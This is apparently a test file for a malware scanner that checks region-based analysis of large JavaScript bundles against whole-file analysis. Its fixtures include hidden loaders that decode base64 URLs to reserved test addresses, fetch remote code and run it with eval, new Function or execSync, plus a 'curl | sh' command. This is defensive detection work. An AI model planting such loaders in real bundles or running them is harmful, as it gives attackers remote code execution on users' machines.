/**
 * Region analysis of large bundles (src/analysis/js/regions.ts): the regions parse at the file's own offsets and
 * lines, nest as the file does, and give the facts a whole-file analysis gives; anything unexpected gives the
 * whole-file analysis. Checked on generated bundles and on the real bundles of this project's own dependencies.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import path from 'node:path';
import { parseJs, type Node } from '../src/analysis/js/parse.js';
import { parseRegions, REGIONS } from '../src/analysis/js/regions.js';
import { JsAnalyzer, type JsFacts } from '../src/analysis/js/facts.js';
import { analyseFile, passesPrefilter, prefilterHits } from '../src/analysis/source-index.js';
import { loadSignatures } from '../src/signatures/load.js';
import { DEFAULT_LIMITS } from '../src/options.js';
import { scanFolder, tempDir } from './helpers.js';

const sigs = loadSignatures();

/** Minified filler: many small modules of ordinary code, no token of the prefilter. */
function filler(n: number, seed = 0, head = (k: number): string => `${k}:(e,t,n)=>`): string {
  const out: string[] = [];
  for (let i = 0; i < n; i++) {
    const k = i + seed;
    out.push(`${head(k)}{"use strict";n.d(t,{A:()=>r${k}});var o${k}=n(${k + 1}),a${k}={a:1,b:[1,2,3],c:"x/${k}"};function r${k}(e){for(var t=0,n=[];t<e.length;t++)n.push(e[t]*${k % 7}+o${k}.f(a${k}.b[t%3]));return n.length>2?n.join("-"):/[a-z]+\\/${k}/.test(e)?e/2:{v:e}}}`);
  }
  return out.join(',');
}

/** The facts the rules read, as comparable strings. */
function factKeys(f: JsFacts | undefined): string[] {
  return [
    ...(f?.sinks ?? []).map((s) => `sink ${s.kind} ${s.api} ${s.line}:${s.column} import=${s.importTime} taint=${s.arg.taint} ${s.unreachable ?? ''}`),
    ...(f?.net ?? []).map((n) => `net ${n.api} ${n.line}:${n.column} import=${n.importTime} taint=${n.url.taint} env=${n.sendsEnv}`),
    ...(f?.envCollect ?? []).map((e) => `env ${e.line}`),
  ].sort();
}

function wholeFacts(text: string, file: string): JsFacts {
  const parsed = parseJs(text, file, DEFAULT_LIMITS.maxParseChars);
  assert.ok(parsed.ok);
  return new JsAnalyzer(parsed.program, text, sigs.source, 60_000).run(1);
}

function regionFacts(text: string): { facts: JsFacts; count: number; chars: number } {
  const r = parseRegions(text, prefilterHits(text, sigs, false), []);
  assert.ok(r, 'region analysis applies');
  return { facts: new JsAnalyzer(r.program, text, sigs.source, 60_000).run(1), count: r.count, chars: r.chars };
}

describe('region analysis of large bundles', () => {
  const webpack = (payload: string): string => `(self.webpackChunk=self.webpackChunk||[]).push([[1],{${filler(700)},9001:(e,t,n)=>{${payload}},${filler(700, 5000)}}]);\n`;

  it('a loader in one module of a webpack bundle: same sinks, lines and columns as the whole file', () => {
    const text = webpack(`const c=require("child_process"),u=atob("aHR0cDovLzE5Mi4wLjIuMTAvcA==");function g(){return fetch(u).then(e=>e.text())}g().then(e=>{eval(e);c.execSync(e)})`);
    assert.ok(text.length > REGIONS.minChars);
    const whole = wholeFacts(text, 'dist/chunk.js');
    const { facts, count, chars } = regionFacts(text);
    assert.deepEqual(factKeys(facts), factKeys(whole));
    assert.ok(factKeys(whole).some((k) => k.startsWith('sink eval')) && factKeys(whole).some((k) => k.startsWith('sink child_process')), factKeys(whole).join('\n'));
    assert.ok(count >= 1 && chars < text.length / 10, `${count} regions, ${chars} characters`);
  });

  it('a binding in a large function used by a small function inside it (the module scope is kept)', () => {
    const big = filler(800, 0, (k) => `k${k}:function(e,t,n)`);
    const text = `module.exports=function(){var vm=require("vm");var pad={${big}};function run(src){return vm.runInNewContext(src,{})}return run}();\n`;
    assert.ok(text.length > REGIONS.minChars);
    const whole = wholeFacts(text, 'lib/bundle.js');
    assert.ok(factKeys(whole).some((k) => k.startsWith('sink vm vm.runInNewContext')), factKeys(whole).join('\n'));
    assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
  });

  it('scope-hoisted top level: a decode and its use in neighbouring statements stay together, at import', () => {
    const lines = [];
    for (let i = 0; i < 2500; i++) lines.push(`function h${i}(e){return e.map(function(t){return t+${i}}).filter(Boolean)}var v${i}=h${i}([${i},2,3]);`);
    lines.splice(1200, 0, 'var q=Buffer.from("aHR0cDovLzE5OC41MS4xMDAuNy94","base64").toString(),w=require("https");w.get(q,function(r){var d="";r.on("data",function(c){d+=c});r.on("end",function(){new Function("require",d)(require)})});');
    const text = lines.join('\n') + '\n';
    assert.ok(text.length > REGIONS.minChars);
    const whole = wholeFacts(text, 'build/app.js');
    const region = regionFacts(text);
    assert.deepEqual(factKeys(region.facts), factKeys(whole));
    assert.ok(factKeys(whole).some((k) => k.startsWith('net ') && k.includes('import=true')), factKeys(whole).join('\n'));
  });

  it('a sink spelled only by a signature name (cp.exec of a constant command) far from its binding is still covered', () => {
    const lines = [];
    for (let i = 0; i < 2500; i++) lines.push(`function h${i}(e){return e.map(function(t){return t+${i}}).filter(Boolean)}var v${i}=h${i}([${i},2,3]);`);
    lines.splice(100, 0, 'var cp=require("child_process");');
    lines.splice(1800, 0, 'function update(){cp.exec("curl -s http://198.51.100.7/u | sh")}update();');
    const text = lines.join('\n') + '\n';
    const whole = factKeys(wholeFacts(text, 'dist/app.js'));
    assert.ok(whole.some((k) => k.startsWith('sink child_process')), whole.join('\n'));
    assert.deepEqual(factKeys(regionFacts(text).facts), whole);
  });

  it('a statement region inside a method body does not run at import; a return in one region does not kill the next', () => {
    const methods = [];
    for (let i = 0; i < 1800; i++) methods.push(`m${i}(e){if(e>${i})return e*2;for(var t=0;t<e;t++)this.x+=t;return this.x}`);
    methods.splice(900, 0, 'load(u){return fetch(u).then(function(r){return r.text()})}');
    const text = `class Big{${methods.join('')}}\nif(1){var z=1;eval(z)}\n`;
    assert.ok(text.length > REGIONS.minChars);
    const whole = wholeFacts(text, 'dist/big.js');
    assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
    assert.ok(factKeys(whole).some((k) => k.startsWith('net fetch') && k.includes('import=false')), factKeys(whole).join('\n'));
  });

  it('an IIFE runs at import and a callback passed to a call does not, as in the whole-file analysis', () => {
    const pad = Array.from({ length: 3000 }, (_, i) => `function h${i}(e){return e.map(function(t){return t+${i}})}`).join('\n');
    for (const code of [
      '(function(){fetch("http://198.51.100.7/a")})();',
      '!function(){fetch("http://198.51.100.7/a")}();',
      '(function(){fetch("http://198.51.100.7/a")}).call(this);',
      '(()=>{fetch("http://198.51.100.7/a")})();',
      'a(function(){fetch("http://198.51.100.7/a")})(b);',
      'define(["x"],function(){fetch("http://198.51.100.7/a")});',
    ]) {
      const text = `${pad}\n${code}\n${pad}\n`;
      const whole = factKeys(wholeFacts(text, 'dist/x.js'));
      assert.ok(whole.some((k) => k.startsWith('net ')), code);
      assert.deepEqual(factKeys(regionFacts(text).facts), whole, code);
    }
  });

  it('falls back to the whole file: no tokens, broken brackets, or regions that would cover most of the file', () => {
    const text = webpack('eval(e)');
    assert.equal(parseRegions(text, [], []), undefined);
    assert.equal(parseRegions(text + '})', prefilterHits(text, sigs, false), []), undefined, 'unbalanced');
    assert.equal(parseRegions('`unterminated' + text, prefilterHits(text, sigs, false), []), undefined, 'does not tokenize');
    const dense = Array.from({ length: 3000 }, (_, i) => `function f${i}(e){return eval(e+${i})}`).join(';');
    assert.equal(parseRegions(dense, prefilterHits(dense, sigs, false), []), undefined, 'regions everywhere');
    // Hostile: a place in every statement of a megabyte of one-token statements.
    const flood = 'eval;'.repeat(200_000);
    assert.equal(parseRegions(flood, prefilterHits(flood, sigs, false), []), undefined, 'too many places');
    const deep = `${'[{a:('.repeat(60_000)}eval(x)${')}]'.repeat(60_000)}`;
    assert.equal(parseRegions(deep, prefilterHits(deep, sigs, false), []), undefined, 'nesting too deep');
    const few = `${'x;'.repeat(300_000)}eval(y);${'x;'.repeat(300_000)}`;
    const r = parseRegions(few, prefilterHits(few, sigs, false), []);
    assert.ok(r && r.chars <= 2 * (32 * 2 + 8), `a statement region takes at most 32 neighbours a side (${r?.chars})`);
  });

  it('analyseFile uses regions only for large plain-JavaScript bundles without string-array obfuscation', () => {
    const text = webpack('eval(atob(e))');
    assert.ok(analyseFile('dist/chunk.js', text, sigs, DEFAULT_LIMITS, [], true)?.regions, 'a bundle by its path');
    assert.equal(analyseFile('src/chunk.ts', text, sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'TypeScript');
    assert.equal(analyseFile('dist/small.js', webpack('eval(e)').slice(0, 0) + 'eval(e)', sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'small');
    assert.equal(analyseFile('fonts/a.woff2', text, sigs, DEFAULT_LIMITS, [], true, 'js')?.regions, undefined, 'a font that is JavaScript');
    const obfuscated = text.replace('eval(atob(e))', Array.from({ length: 30 }, (_, i) => `var _0x${(0xa1b2 + i).toString(16)}=${i};`).join('') + 'eval(atob(e))');
    assert.equal(analyseFile('dist/chunk.js', obfuscated, sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'obfuscator names');
  });

  it('a scan of a repository whose committed vendor bundle hides a loader reports what the whole-file analysis reports', async () => {
    const { dir, cleanup } = tempDir();
    const saved = { workers: process.env.LURESCAN_WORKERS, min: REGIONS.minChars };
    try {
      mkdirSync(path.join(dir, 'public', 'js'), { recursive: true });
      writeFileSync(path.join(dir, 'package.json'), '{"name":"shop-frontend","version":"1.0.0","private":true}\n');
      // A loader appended on its own line after a minified vendor file (payload host reserved).
      const loader = ';(function(){var u=atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L2FwaS9jaGVjaw==");fetch(u).then(function(r){return r.text()}).then(function(c){new Function("require",c)(require)})})();';
      const text = `${webpack('n.d(t,{x:()=>1})')}${loader}\n`;
      writeFileSync(path.join(dir, 'public', 'js', 'vendor.min.js'), text);
      assert.ok(analyseFile('public/js/vendor.min.js', text, sigs, DEFAULT_LIMITS, [], true)?.regions, 'analysed by region');
      process.env.LURESCAN_WORKERS = '0';
      const byRegion = await scanFolder(dir);
      REGIONS.minChars = Infinity;
      const whole = await scanFolder(dir);
      assert.deepEqual(byRegion.findings, whole.findings);
      assert.equal(byRegion.verdict, whole.verdict);
      const rce = byRegion.findings.find((f) => f.ruleId === 'remote-code-execution');
      assert.deepEqual([rce?.location?.file, rce?.location?.line], ['public/js/vendor.min.js', 2]);
    } finally {
      REGIONS.minChars = saved.min;
      if (saved.workers === undefined) delete process.env.LURESCAN_WORKERS;
      else process.env.LURESCAN_WORKERS = saved.workers;
      cleanup();
    }
  });

  it('a loader injected before any statement of a real bundle, at any depth, gives the same facts by region as whole', function () {
    this.timeout(120_000);
    // acorn's own 240 KB distribution file (a dependency, so always installed), taken as a bundle: 30 seeded
    // injections of three loader shapes before statements chosen at random from the whole-file tree.
    const file = createRequire(import.meta.url).resolve('acorn');
    const base = readFileSync(file, 'utf8');
    const parsed = parseJs(base, 'dist/acorn.js', Infinity);
    assert.ok(parsed.ok);
    const starts: number[] = [];
    const walk = (n: unknown, inList: boolean): void => {
      if (Array.isArray(n)) for (const x of n) walk(x, inList);
      else if (n && typeof n === 'object' && typeof (n as Node).type === 'string') {
        const node = n as Node;
        if (inList && /(?:Statement|Declaration)$/.test(node.type) && node.type !== 'BlockStatement') starts.push(node.start);
        for (const [k, v] of Object.entries(node)) if (k !== 'loc') walk(v, k === 'body' || k === 'consequent');
      }
    };
    walk(parsed.program, true);
    const loaders = [
      'var _u=atob("aHR0cDovLzE5OC41MS4xMDAuNy94");fetch(_u).then(function(r){return r.text()}).then(function(c){eval(c)});',
      'require("child_process").execSync(Buffer.from("Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA==","base64").toString());',
      'new Function("require",Buffer.from(process.env.K||"","base64").toString())(require);',
    ];
    let seed = 7;
    const next = (n: number): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed % n;
    };
    let compared = 0;
    for (let i = 0; i < 30; i++) {
      const at = starts[next(starts.length)];
      const text = base.slice(0, at) + loaders[next(loaders.length)] + base.slice(at);
      const r = parseRegions(text, prefilterHits(text, sigs, false), []);
      if (!r) continue;
      const whole = factKeys(wholeFacts(text, 'dist/acorn.js'));
      assert.ok(whole.some((k) => k.startsWith('sink ')), `no sink at ${at}`);
      assert.deepEqual(factKeys(new JsAnalyzer(r.program, text, sigs.source, 60_000).run(1)), whole, `loader before offset ${at}: ${text.slice(at - 80, at)}`);
      compared++;
    }
    assert.ok(compared >= 25, `${compared} of 30 analysed by region`);
  });

  it('real bundles of this project’s dependencies: region facts equal whole-file facts', function () {
    this.timeout(120_000);
    const require = createRequire(import.meta.url);
    const candidates = ['@babel/parser/lib/index.js', 'acorn/dist/acorn.js', 'js-yaml/dist/js-yaml.js', 'yaml/browser/dist/index.js', 'semver/index.js', 'simple-git/dist/cjs/index.js', 'parse5/dist/cjs/index.js'];
    let compared = 0;
    for (const c of candidates) {
      let file: string;
      try {
        file = require.resolve(c);
      } catch {
        continue;
      }
      for (const f of [file, path.join(path.dirname(file), 'index.js')]) {
        if (!existsSync(f)) continue;
        const text = readFileSync(f, 'utf8');
        const rel = `node_modules/${c}`;
        if (text.length < REGIONS.minChars || !passesPrefilter('js', text, sigs)) continue;
        const r = parseRegions(text, prefilterHits(text, sigs, false), []);
        if (!r) continue;
        const facts = new JsAnalyzer(r.program as Node, text, sigs.source, 60_000).run(1);
        assert.deepEqual(factKeys(facts), factKeys(wholeFacts(text, rel)), rel);
        compared++;
        break;
      }
    }
    assert.ok(compared >= 1, 'at least one real bundle compared');
  });
});
